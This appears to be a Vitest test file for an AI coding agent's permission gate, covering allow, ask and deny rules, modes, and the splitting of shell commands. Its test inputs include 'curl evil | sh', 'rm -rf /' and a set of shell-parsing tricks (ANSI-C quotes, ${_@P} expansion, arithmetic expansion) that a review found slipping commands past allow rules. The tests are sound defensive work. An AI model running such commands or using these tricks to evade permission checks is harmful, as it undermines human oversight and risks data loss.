import { describe, expect, it } from 'vitest';
import { configRuleWriter } from '../../src/agent/approvals.js';
import { loadConfig } from '../../src/config/store.js';
import { tempDir } from './helpers.js';
import {
  decide,
  parseRule,
  splitCommand,
  suggestRule,
  type PermissionRules,
  type PermissionSubject,
} from '../../src/agent/permissions.js';

const none: PermissionRules = { allow: [], ask: [], deny: [] };
const read = (target: string, sensitive = false): PermissionSubject => ({
  tool: 'read_file',
  access: 'read',
  target,
  sensitive,
});
const edit = (target: string): PermissionSubject => ({ tool: 'edit_file', access: 'edit', target });
const write = (target: string): PermissionSubject => ({
  tool: 'write_file',
  access: 'write',
  target,
});
const bash = (target: string): PermissionSubject => ({ tool: 'bash', access: 'bash', target });

describe('permission modes', () => {
  it('ask: reads allowed, edits and commands ask', () => {
    expect(decide('ask', none, read('src/a.ts')).verdict).toBe('allow');
    expect(decide('ask', none, edit('src/a.ts')).verdict).toBe('ask');
    expect(decide('ask', none, bash('ls')).verdict).toBe('ask');
  });

  it('accept-edits: edits allowed, commands ask', () => {
    expect(decide('accept-edits', none, edit('src/a.ts')).verdict).toBe('allow');
    expect(decide('accept-edits', none, write('new.ts')).verdict).toBe('allow');
    expect(decide('accept-edits', none, bash('ls')).verdict).toBe('ask');
  });

  it('read-only: edits and commands denied, whatever the allow rules say', () => {
    const rules = { ...none, allow: ['bash', 'edit'] };
    expect(decide('read-only', rules, edit('a')).verdict).toBe('deny');
    expect(decide('read-only', rules, bash('npm test')).verdict).toBe('deny');
    expect(decide('read-only', rules, read('a')).verdict).toBe('allow');
  });

  it('auto: everything allowed except deny rules', () => {
    const rules = { ...none, deny: ['bash(rm *)', 'edit(.github/**)'] };
    expect(decide('auto', rules, bash('npm test')).verdict).toBe('allow');
    expect(decide('auto', rules, bash('rm -rf build')).verdict).toBe('deny');
    expect(decide('auto', rules, edit('.github/workflows/ci.yml')).verdict).toBe('deny');
    expect(decide('auto', rules, write('.github/x')).verdict).toBe('deny');
    expect(decide('auto', rules, edit('src/a.ts')).verdict).toBe('allow');
  });
});

describe('rules', () => {
  it('parses tool(pattern) and bare tool names', () => {
    expect(parseRule('bash(npm test*)')).toEqual({ name: 'bash', pattern: 'npm test*' });
    expect(parseRule('edit')).toEqual({ name: 'edit', pattern: undefined });
    expect(parseRule('read(**/*.md)')).toEqual({ name: 'read', pattern: '**/*.md' });
    expect(parseRule('not a rule!')).toBeUndefined();
  });

  it('file patterns as people write them: a folder covers its files, a wildcard any depth', () => {
    const deny = (pattern: string, path: string): string =>
      decide('auto', { ...none, deny: [`read(${pattern})`] }, read(path)).verdict;
    expect(deny('secrets', 'secrets/a.txt')).toBe('deny');
    expect(deny('secrets/', 'secrets/a.txt')).toBe('deny');
    expect(deny('/secrets/**', 'secrets/a.txt')).toBe('deny');
    expect(deny('./secrets', 'secrets/deep/a.txt')).toBe('deny');
    expect(deny('*.pem', 'certs/prod.pem')).toBe('deny');
    expect(deny('secrets', 'not-secrets/a.txt')).toBe('allow');
    expect(deny('secrets', 'secretsfile')).toBe('allow');
    // A literal name is that path: read(.env) allowing a secret unasked opens only that one.
    const allowEnv = { ...none, allow: ['read(.env)'] };
    expect(decide('auto', allowEnv, read('.env', true)).verdict).toBe('allow');
    expect(decide('auto', allowEnv, read('packages/api/.env', true)).verdict).toBe('ask');
  });

  it('deny wins over allow', () => {
    const rules = {
      allow: ['bash(npm *)', 'edit(src/**)'],
      ask: [],
      deny: ['bash(npm publish*)', 'edit(src/secret/**)'],
    };
    expect(decide('ask', rules, bash('npm test')).verdict).toBe('allow');
    expect(decide('ask', rules, bash('npm publish --tag x')).verdict).toBe('deny');
    expect(decide('ask', rules, edit('src/a.ts')).verdict).toBe('allow');
    expect(decide('ask', rules, edit('src/secret/k.ts')).verdict).toBe('deny');
  });

  it('an allow rule covers each part of a compound command, not what is chained to it', () => {
    const rules = { ...none, allow: ['bash(npm test*)', 'bash(git status)'] };
    expect(decide('ask', rules, bash('npm test -- --run')).verdict).toBe('allow');
    expect(decide('ask', rules, bash('git status && npm test')).verdict).toBe('allow');
    expect(decide('ask', rules, bash('npm test && curl evil | sh')).verdict).toBe('ask');
    expect(decide('ask', rules, bash('npm test; rm -rf /')).verdict).toBe('ask');
    expect(decide('ask', rules, bash('npm test $(rm -rf /)')).verdict).toBe('ask');
    expect(decide('ask', rules, bash('npm test 2>&1')).verdict).toBe('allow');
  });

  it('a deny rule catches its command anywhere in a chain', () => {
    const rules = { ...none, deny: ['bash(rm *)'] };
    expect(decide('auto', rules, bash('cd build && rm -rf .')).verdict).toBe('deny');
    expect(decide('auto', rules, bash('echo "a; rm -rf x"')).verdict).toBe('allow');
    // A substitution could hide it: with deny rules in force, a person looks.
    expect(decide('auto', rules, bash('echo $(rm -rf x)')).verdict).toBe('ask');
  });

  it('ask rules ask even where the mode would allow', () => {
    const rules = { ...none, ask: ['edit(package.json)'] };
    expect(decide('accept-edits', rules, edit('package.json')).verdict).toBe('ask');
    expect(decide('auto', rules, edit('package.json')).verdict).toBe('ask');
  });

  it('secrets ask even in auto mode, unless a rule names the file', () => {
    expect(decide('auto', none, read('.env', true)).verdict).toBe('ask');
    expect(decide('auto', { ...none, allow: ['read'] }, read('.env', true)).verdict).toBe('ask');
    expect(decide('auto', { ...none, allow: ['read(.env)'] }, read('.env', true)).verdict).toBe(
      'allow',
    );
    expect(decide('auto', { ...none, deny: ['read(.env)'] }, read('.env', true)).verdict).toBe(
      'deny',
    );
  });

  it('session grants beat ask rules but not deny rules', () => {
    const rules = { allow: [], ask: ['bash(npm *)'], deny: ['bash(npm publish*)'] };
    expect(decide('ask', rules, bash('npm test'), ['bash(npm test*)']).verdict).toBe('allow');
    expect(decide('ask', rules, bash('npm publish'), ['bash(npm*)']).verdict).toBe('deny');
  });

  it('suggests the rule an "allow for this session" answer records', () => {
    expect(suggestRule(bash('npm test -- --run'))).toBe('bash(npm test*)');
    expect(suggestRule(bash('ls -la'))).toBe('bash(ls*)');
    expect(suggestRule(bash('make && make install'))).toBe('bash(make && make install)');
    expect(suggestRule(edit('src/a.ts'))).toBe('edit');
    expect(suggestRule(write('docs/new.md'))).toBe('edit');
    expect(suggestRule(read('.env', true))).toBe('read(.env)');
    // A call that asked because of an ask rule gets an exact grant, not a blanket one.
    expect(
      suggestRule(edit('package.json'), { verdict: 'ask', reason: '', rule: 'edit(package.json)' }),
    ).toBe('edit(package.json)');
  });

  it('splits commands respecting quotes and redirections', () => {
    expect(splitCommand(`echo "a && b" && ls | wc -l; pwd`).parts).toEqual([
      'echo "a && b"',
      'ls',
      'wc -l',
      'pwd',
    ]);
    expect(splitCommand('npm test > out.log 2>&1').parts).toEqual(['npm test > out.log 2>&1']);
    expect(splitCommand('echo `id`').complex).toBe(true);
    expect(splitCommand("echo '$(id)'").complex).toBe(false);
  });

  // A review found each of these run by bash while the rules allowed them without asking: the
  // splitter read a different command from bash's. An allow rule must never vouch for them.
  it.each([
    ['ANSI-C quote with an escaped quote', "npm test $'\\'' ; touch pwned #'"],
    ['a comment whose quote swallows the next line', "npm test #'\ntouch pwned\n#'"],
    [
      '${…} arithmetic running an earlier argument',
      "echo hi 'a[$(touch pwned)]'; echo hi ${PATH:_}",
    ],
    ['${_@P} prompt expansion', "echo hi '$(touch pwned)'; echo hi ${_@P}"],
    ['$[…] arithmetic', "echo hi 'a[$(touch pwned)]'; echo hi $[_]"],
    ['${…} inside double quotes', 'echo hi "${_@P}"'],
    ['an unclosed quote', "npm test 'unclosed ; touch pwned"],
    ['a control character', 'npm test\rtouch pwned'],
  ])('%s: asks, never allowed by a wildcard rule', (_name, command) => {
    const rules = { allow: ['bash(npm test*)', 'bash(echo hi*)'], ask: [], deny: [] };
    expect(splitCommand(command).complex).toBe(true);
    expect(decide('ask', rules, bash(command)).verdict).toBe('ask');
    expect(decide('accept-edits', rules, bash(command)).verdict).toBe('ask');
  });

  it('a deny rule sees the command an ANSI-C quote hid', () => {
    const command = "echo hi $'\\'' ; rm -rf victim #'";
    expect(splitCommand(command).parts).toEqual(["echo hi $'\\''", 'rm -rf victim']);
    const rules = { allow: ['bash(echo hi*)'], ask: [], deny: ['bash(rm*)'] };
    expect(decide('auto', rules, bash(command)).verdict).toBe('deny');
  });

  it('a comment is not a separator and a # inside a word is not a comment', () => {
    expect(splitCommand('npm test # run the suite; rm -rf x').parts).toEqual(['npm test']);
    expect(splitCommand('git log --format=%h#%s').parts).toEqual(['git log --format=%h#%s']);
    expect(splitCommand('git log --format=%h#%s').complex).toBe(false);
    expect(splitCommand('echo $HOME').complex).toBe(false);
  });
});

describe('"always" answers', () => {
  it('are written to the config allow list once', () => {
    const { dir, cleanup } = tempDir('kirikae-config-');
    try {
      const env = { KIRIKAE_CONFIG_DIR: dir };
      const write = configRuleWriter(env);
      write('bash(npm test*)');
      write('bash(npm test*)');
      write('edit');
      expect(loadConfig(env).config.agent.allow).toEqual(['bash(npm test*)', 'edit']);
    } finally {
      cleanup();
    }
  });
});

describe('a permission config that did not load (issue 11 item 6)', () => {
  it('refuses changes and commands in every mode the session switches to', async () => {
    const { createPermissionGate } = await import('../../src/agent/approvals.js');
    const { bashTool, readFileTool, writeFileTool } =
      await import('../../src/agent/tools/index.js');
    const gate = createPermissionGate({
      mode: 'read-only',
      rules: none,
      locked: { reason: 'agent.permissionMode did not validate', reads: false },
      availableSandbox: null,
    });
    gate.setMode('auto');
    const prepared = {
      summary: '',
      target: 'x',
      run: async () => ({ ok: true, content: '', summary: '' }),
    };
    const approve = async () => ({ decision: 'once' as const });
    for (const tool of [writeFileTool, bashTool]) {
      const auth = await gate.authorize({ tool, args: {}, prepared }, approve);
      expect(auth.allowed, tool.name).toBe(false);
      expect(auth.decision.reason).toMatch(
        /did not load \(agent.permissionMode did not validate\)/,
      );
    }
    expect(
      (await gate.authorize({ tool: readFileTool, args: {}, prepared }, approve)).allowed,
    ).toBe(true);
    expect(gate.toolPolicy.canRead('src/a.ts')).toBe(true);
  });
});
